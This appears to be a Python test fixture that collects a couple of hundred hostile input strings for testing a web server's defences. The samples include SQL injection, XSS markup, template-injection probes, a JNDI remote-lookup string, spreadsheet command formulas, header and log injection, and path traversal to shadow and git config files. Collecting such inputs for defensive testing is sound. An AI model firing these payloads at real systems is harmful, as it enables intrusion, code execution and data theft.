"""More texts that have broken other systems; with `HOSTILE` they are over two hundred."""

from __future__ import annotations

from tests.server.web.hostile import HOSTILE

_SQL = (
    *("1' AND SLEEP(9)--", "admin'--", "') OR ('1'='1", "1 UNION SELECT NULL,NULL--", "'; VACUUM; --"),
    *("$$;SELECT 1;$$", "E'\\x27'", "0x27", "a' || pg_sleep(9)--", "{'$gt': ''}", '{"$ne": null}'),
    *("x' --\n",),
)
_MARKUP = (
    *("<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<iframe src=javascript:alert(1)>"),
    *("<base href=//e>", "<style>*{display:none}</style>", "<a href=javascript:alert(1)>x</a>"),
    *("</title><script>1</script>", "</textarea><script>1</script>", '"><img src=x onerror=alert(1)>'),
    *("' onfocus=alert(1) autofocus='", '" style="position:fixed'),
    *("<meta http-equiv=refresh content=0>", "<form action=//e><button>x", "<object data=x>"),
    *("<math><mi//xlink:href='data:x'>", "&#x3c;script&#x3e;", "%3Cscript%3E", "\\u003cscript\\u003e"),
    *("<!ENTITY x>", "<![CDATA[<script>]]>", "<?xml version='1.0'?>", "javascript&colon;alert(1)"),
    *("data:text/html,<script>1</script>",),
)
_TEMPLATES = (
    *("{{config}}", "{{''.__class__.__mro__}}", "{% for x in () %}", "{#", "<%= 7*7 %>", "{{{x}}}"),
    *("[[${7*7}]]", "%(name)s", "%n%n%n", "{0.__class__}", "{name!r}", "$(id)", "`id`"),
    *("${jndi:ldap://e/x}", "#{x}", "*{x}"),
)
_FORMULAS = (
    *('=HYPERLINK("http://e","x")', "=cmd|' /C calc'!A0", "+cmd|x", "@A1", "\t=1+1", "\r=1+1", "＝1+1"),
    *(";=1+1", '"=1+1"', "=1+1,x", "-1+1", "=IMPORTXML(1,2)", "'=1+1"),
)
_HEADERS = (
    *("x\r\nBcc: e@example.vn", "x\nX-Header: 1", "x\r\n\r\n<html>", "x%0d%0aSet-Cookie:%20y=1"),
    *("x\u2028y", "嘍嘊", "a@b.vn\nBcc: c@d.vn", '"x"@e.vn', "x@e.vn, y@e.vn", "<x@e.vn>"),
    *("=?utf-8?q?=0d=0a?=",),
)
_LOGS = (
    *("x\n2026-11-23 [error] forged", 'x", "level": "critical', "x\x1b]0;title\x07", "x\x1b[31mred"),
    *("x\x08\x08\x08", "x\x0cy", "\x9d0;t\x9c", "x\x00y", "\x1a", "\x04", "\x11\x13"),
)
_PAPER = (
    *("\x1dV\x00", "\x1b@", "\x1bp\x00\x19ú", "\x10\x04\x01", "\x1d(k", "\x1cp\x01\x00", "\x1bt\x00"),
    *("\x1b!0big", "\x1d!w", "\x1ba\x01"),
)
_PATHS = (
    *("../../../../etc/shadow", "..\\..\\windows\\win.ini", "%2e%2e%2f", "....//....//"),
    *("/etc/passwd\x00.toml", "file:///", "\\\\host\\share", "CON", "aux.toml", "a/../../b", "~root"),
    *(".git/config", "%00", "..;/", "//host/x"),
)
_TOML = (
    *('"""', "'''", "[office]", "[[services]]", "a = 1", "# x", 'x"\n[office]\ncode = "e'),
    *("\\U0001F600", "1979-05-27", "inf", "nan", "0b1", "{a = 1}", "key.sub", "\ufeff[office]"),
)
_LETTERS = (
    *("ＳＣＲＩＰＴ", "ｈｏａ", "hoа", "Ηοα", "ı", "ſ", "K", "ﬁ", "①②③"),
    *("Z\u0321\u0356\u031c\u0330a\u0335l\u0336g\u0337o\u0338", "\u200f\u200e\u202b"),
    *("\u2067x\u2069\u202c", "\u180e", "ᅟ", "ㅤ", "\u034f", "️", "\U000e0041", "\ud7ff", "\ufdd0"),
    *("\U0001fffe", "👨\u200d👩\u200d👧\u200d👦"),
    *("ำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำำ", "𝕳𝖔𝖆", "Ñ\u0303\u0303", "ĐĐĐ"),
    *("đđđ",),
)
_NUMBERS = (
    *("0", "-0", "00", "1e400", "-2147483649", "9223372036854775808", "0x7f", "1_000", "٠١٢", "１２"),
    *("NaN", "1,5"),
)
_LONG = (
    *("ẩ" * 65, "x" * 256, "x " * 2_000, "\n" * 500, "a\u0301" * 3_000),
    *("a" + "\u0323" * 400, "\u0e33" * 60, "\ufdfa" * 100),
)
MORE: tuple[str, ...] = (
    *(*_SQL, *_MARKUP, *_TEMPLATES, *_FORMULAS, *_HEADERS, *_LOGS, *_PAPER),
    *(*_PATHS, *_TOML, *_LETTERS, *_NUMBERS, *_LONG),
)
EVERY: tuple[str, ...] = tuple(dict.fromkeys((*HOSTILE, *MORE)))
